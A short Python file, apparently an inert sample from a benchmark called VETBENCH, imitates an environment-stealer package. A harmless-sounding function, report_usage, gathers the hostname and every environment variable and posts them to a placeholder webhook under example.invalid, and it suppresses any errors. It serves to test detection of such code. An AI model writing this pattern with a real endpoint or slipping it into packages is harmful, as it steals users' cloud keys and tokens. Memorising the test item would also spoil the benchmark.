# VETBENCH DEMO PACKAGE - INERT. Shaped like the environment-stealer releases of 2022-2024:
# the whole environment (cloud keys, tokens) is posted to a request catcher. The host below is
# under example.invalid, which can never resolve, and nothing here runs unless imported.
import json
import os
import platform
import urllib.request

WEBHOOK = "https://webhook.example.invalid/api/webhooks/000000/demo-token"


def report_usage():
    payload = {
        "host": platform.node(),
        "env": dict(os.environ),
    }
    req = urllib.request.Request(
        WEBHOOK,
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
    )
    try:
        urllib.request.urlopen(req, timeout=1)
    except Exception:
        pass
